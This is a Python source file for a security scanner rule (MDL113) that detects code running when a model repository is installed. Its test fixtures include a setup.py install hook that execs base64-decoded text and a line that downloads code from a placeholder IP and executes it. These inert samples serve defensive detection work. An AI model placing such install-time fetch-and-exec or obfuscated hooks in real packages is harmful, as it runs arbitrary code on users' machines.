"""MDL113: code that runs when a model's repository is installed."""

from __future__ import annotations

from collections.abc import Iterator

from hauberk.core.finding import Finding, Place, Severity
from hauberk.core.rule import Sample, rule
from hauberk.formats.install_script import InstallScript

MODEL = {"config.json": b'{"model_type": "bert"}'}
SHELL = b"from setuptools import setup\nimport os\nos.system('touch /tmp/x')\nsetup(name='m')\n"
COMMAND = b"""from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        exec(__import__("base64").b64decode("cHJpbnQoMSk="))


setup(name="m", cmdclass={"install": Install})
"""
FETCHED = b"from urllib.request import urlopen\nexec(urlopen('http://192.0.2.1/x').read())\n"
BACKEND = b'[build-system]\nrequires = []\nbuild-backend = "build"\nbackend-path = ["tools"]\n'
HONEST = b"""import os
import subprocess
from setuptools import setup

about = {}
with open(os.path.join("m", "version.py")) as text:
    exec(text.read(), about)
commit = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
subprocess.check_call(["cmake", "--build", "."])
setup(name="m", version=about["__version__"] + "+" + commit)
"""


@rule(
    "MDL113",
    Severity.HIGH,
    maps=["CWE-506", "CWE-94", "AML.T0010.001", "AML.T0011.001", "LLM03:2025"],
    bad=[
        Sample("setup.py", SHELL, MODEL),
        Sample("setup.py", COMMAND, MODEL),
        Sample("setup.py", FETCHED, MODEL),
        Sample("tools/build.py", SHELL, {"pyproject.toml": BACKEND, **MODEL}),
    ],
    good=[
        Sample("setup.py", HONEST, MODEL),
        Sample("pyproject.toml", b'[build-system]\nbuild-backend = "hatchling.build"\n', MODEL),
    ],
)
def install_script(view: InstallScript) -> Iterator[Finding]:
    """Installing the repository runs commands, hidden text, or code from the network.

    Why: pip runs `setup.py` and build hooks with all rights of whoever types `pip install`, before
    anything of the model is loaded; building a package needs compilers and version control, not this.
    Remediation: take the weights and settings only; do not install the repository.
    Source: pip documentation, "Build System Interface"; MITRE ATLAS AML.T0011.001.
    """
    from hauberk.analysis.code.installing import judged_installing

    for each in judged_installing(view.tree):
        yield Finding("MDL113", Place(view.locator, line=each.line), each.message, each.name, each.severity)
